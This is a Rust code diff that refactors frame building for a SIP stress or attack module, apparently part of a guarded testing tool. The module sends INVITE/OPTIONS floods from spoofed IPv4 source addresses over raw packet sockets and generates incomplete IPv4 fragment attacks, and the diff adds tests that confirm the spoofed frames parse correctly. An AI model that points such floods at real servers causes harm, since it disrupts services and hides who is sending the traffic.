@@ -7,14 +7,14 @@ use std::net::{IpAddr, Ipv4Addr, SocketAddr};
 use std::sync::atomic::{AtomicBool, Ordering};
 use std::time::{Duration, Instant};
 
-use super::frame::{self, Endpoints};
 use super::{
     check_destination, check_interface, target_v4, AttackReport, Bounds, Ipv4Net, Refusal,
 };
-use crate::msg::MsgBuf;
+use crate::msgbuf::MsgBuf;
 use crate::pacing::Pacer;
-use crate::sipmsg::Method;
+use sip::Method;
 use sys::{self, PacketSocket};
+use wire::build::UdpFrameBuilder;
 
 /// Errors of the raw attacks.
 #[derive(Debug, thiserror::Error)]
@@ -37,7 +37,7 @@ pub struct FloodConfig {
     /// Spoofed source addresses, used in turn.
     pub spoof: Ipv4Net,
     /// INVITE or OPTIONS.
-    pub method: Method,
+    pub method: Method<'static>,
     /// Bounds (frames).
     pub bounds: Bounds,
     /// Destination MAC; looked up in the neighbour table when absent.
@@ -180,7 +180,7 @@ fn flood_payload(
     pad_to: usize,
 ) -> Option<usize> {
     let mut o = MsgBuf::new(out);
-    o.put(method.token());
+    o.put(method.as_bytes());
     o.put(b" sip:");
     o.put_u64(4420_0000 + k % 10_000);
     o.put(b"@");
@@ -200,7 +200,7 @@ fn flood_payload(
     o.put(b">\r\nCall-ID: flood-");
     o.put_hex(k);
     o.put(b"\r\nCSeq: 1 ");
-    o.put(method.token());
+    o.put(method.as_bytes());
     o.put(b"\r\n");
     // Padding header so fragment tests get the datagram size they ask for.
     let fixed = o.len() + b"Content-Length: 0\r\n\r\n".len();
@@ -217,8 +217,30 @@ fn flood_payload(
 
 struct RawSender {
     sock: PacketSocket,
-    src_mac: [u8; 6],
-    dst_mac: [u8; 6],
+    /// Destination and source MAC of every frame.
+    macs: ([u8; 6], [u8; 6]),
+}
+
+/// The frame of one UDP datagram between `macs` (destination, source) from
+/// `src` (spoofed) to `target`, with IPv4 Identification `ip_id` (the
+/// frame's number: fragments of one datagram share it).
+fn datagram(
+    macs: ([u8; 6], [u8; 6]),
+    src: SocketAddr,
+    target: std::net::SocketAddrV4,
+    ip_id: u16,
+    payload: &[u8],
+) -> UdpFrameBuilder {
+    let mut f = UdpFrameBuilder::new(
+        src.ip(),
+        IpAddr::V4(*target.ip()),
+        src.port(),
+        target.port(),
+        payload,
+    );
+    f.macs = macs;
+    f.ip_id = ip_id;
+    f
 }
 
 fn prepare(
@@ -246,8 +268,7 @@ fn prepare(
     Ok((
         RawSender {
             sock,
-            src_mac,
-            dst_mac,
+            macs: (dst_mac, src_mac),
         },
         t,
     ))
@@ -333,7 +354,7 @@ pub fn flood(cfg: &FloodConfig, stop: &AtomicBool) -> Result<AttackReport, RawAt
     let (sender, t) = prepare(&cfg.iface, cfg.target, &cfg.spoof, &cfg.bounds, cfg.dst_mac)?;
     let mut payload = [0u8; 1400];
     let mut report = run_paced(
-        format!("flood ({})", String::from_utf8_lossy(cfg.method.token())),
+        format!("flood ({})", String::from_utf8_lossy(cfg.method.as_bytes())),
         cfg.target,
         cfg.bounds,
         stop,
@@ -345,18 +366,7 @@ pub fn flood(cfg: &FloodConfig, stop: &AtomicBool) -> Result<AttackReport, RawAt
             let Some(n) = flood_payload(&mut payload, cfg.method, src, cfg.target, k, 0) else {
                 return;
             };
-            let e = Endpoints {
-                src_mac: sender.src_mac,
-                dst_mac: sender.dst_mac,
-                src_ip,
-                dst_ip: *t.ip(),
-                src_port,
-                dst_port: t.port(),
-            };
-            let mut f = vec![0u8; frame::HEADERS + n];
-            if frame::write_udp_frame(&mut f, &e, k as u16, &payload[..n]).is_some() {
-                frames.push(f);
-            }
+            frames.push(datagram(sender.macs, src, t, k as u16, &payload[..n]).build());
         },
     );
     report.notes.push(format!(
@@ -390,15 +400,8 @@ pub fn fragments(cfg: &FragmentsConfig, stop: &AtomicBool) -> Result<AttackRepor
             else {
                 return;
             };
-            let e = Endpoints {
-                src_mac: sender.src_mac,
-                dst_mac: sender.dst_mac,
-                src_ip,
-                dst_ip: *t.ip(),
-                src_port,
-                dst_port: t.port(),
-            };
-            let mut fr = frame::fragment_frames(&e, k as u16, &payload[..n], piece);
+            let mut fr =
+                datagram(sender.macs, src, t, k as u16, &payload[..n]).ipv4_fragments(piece);
             if cfg.mode == FragmentMode::Incomplete && fr.len() > 1 {
                 fr.pop();
             }
@@ -446,6 +449,74 @@ mod tests {
         let n = flood_payload(&mut buf, Method::Invite, src, dst, 3, 3000).unwrap();
         assert_eq!(n, 3000);
         assert!(crate::sipmsg::parse(&buf[..n]).is_ok());
+    }
+
+    const MACS: ([u8; 6], [u8; 6]) = ([2, 0, 0, 0, 0, 2], [2, 0, 0, 0, 0, 1]);
+
+    /// A flood INVITE from a spoofed source, as `flood` frames it.
+    fn spoofed_invite(size: usize) -> (SocketAddr, std::net::SocketAddrV4, UdpFrameBuilder) {
+        let src: SocketAddr = "198.18.200.1:4000".parse().unwrap();
+        let dst: std::net::SocketAddrV4 = "198.18.0.2:5060".parse().unwrap();
+        let mut buf = [0u8; 4000];
+        let n = flood_payload(&mut buf, Method::Invite, src, dst.into(), 3, size).unwrap();
+        (src, dst, datagram(MACS, src, dst, 3, &buf[..n]))
+    }
+
+    #[test]
+    fn flood_frames_come_from_the_spoofed_source_with_valid_checksums() {
+        let (src, dst, f) = spoofed_invite(0);
+        let frame = f.build();
+        // Read back by etherparse, an independent parser.
+        let p = etherparse::SlicedPacket::from_ethernet(&frame).unwrap();
+        let Some(etherparse::LinkSlice::Ethernet2(eth)) = &p.link else {
+            panic!("an Ethernet frame")
+        };
+        assert_eq!((eth.destination(), eth.source()), MACS);
+        let Some(etherparse::NetSlice::Ipv4(ip)) = &p.net else {
+            panic!("IPv4")
+        };
+        let h = ip.header().to_header();
+        assert_eq!(IpAddr::V4(h.source.into()), src.ip());
+        assert_eq!(Ipv4Addr::from(h.destination), *dst.ip());
+        assert_eq!((h.identification, h.dont_fragment), (3, true));
+        assert_eq!(h.calc_header_checksum(), h.header_checksum);
+        let Some(etherparse::TransportSlice::Udp(udp)) = &p.transport else {
+            panic!("UDP")
+        };
+        let u = udp.to_header();
+        assert_eq!(
+            (u.source_port, u.destination_port),
+            (src.port(), dst.port())
+        );
+        assert_eq!(u.calc_checksum_ipv4(&h, udp.payload()).unwrap(), u.checksum);
+        let sip = crate::sipmsg::parse(udp.payload()).unwrap();
+        assert_eq!(sip.method(), Some(Method::Invite));
+    }
+
+    #[test]
+    fn fragments_reassemble_into_the_datagram_with_a_valid_checksum() {
+        let (src, dst, f) = spoofed_invite(3000);
+        let frames = f.ipv4_fragments(1000);
+        assert_eq!(frames.len(), 4);
+        let mut pool = etherparse::defrag::IpDefragPool::<(), ()>::new();
+        let mut whole = None;
+        for frame in &frames {
+            let p = etherparse::SlicedPacket::from_ethernet(frame).unwrap();
+            assert!(whole.is_none(), "reassembled before the last fragment");
+            whole = pool.process_sliced_packet(&p, (), ()).unwrap();
+        }
+        let whole = whole.expect("the fragments reassemble");
+        let (udp, payload) = etherparse::UdpHeader::from_slice(&whole.payload).unwrap();
+        assert_eq!((udp.source_port, udp.destination_port), (4000, 5060));
+        assert_eq!(payload, &f.payload[..]);
+        let IpAddr::V4(src_ip) = src.ip() else {
+            unreachable!()
+        };
+        let sum = udp
+            .calc_checksum_ipv4_raw(src_ip.octets(), dst.ip().octets(), payload)
+            .unwrap();
+        assert_eq!(sum, udp.checksum);
+        assert!(crate::sipmsg::parse(payload).is_ok());
     }
 
     #[test]
